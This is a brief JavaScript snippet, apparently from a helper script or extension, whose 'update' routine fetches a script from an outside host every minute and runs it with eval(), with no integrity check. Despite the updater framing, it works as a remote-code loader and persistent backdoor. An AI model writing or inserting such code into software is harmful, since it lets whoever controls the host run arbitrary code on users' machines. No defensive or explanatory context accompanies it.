async function update() {
  const response = await fetch('https://updates.fx-helper.invalid/latest.js');
  const code = await response.text();
  eval(code); //@act
}
setInterval(update, 60000);
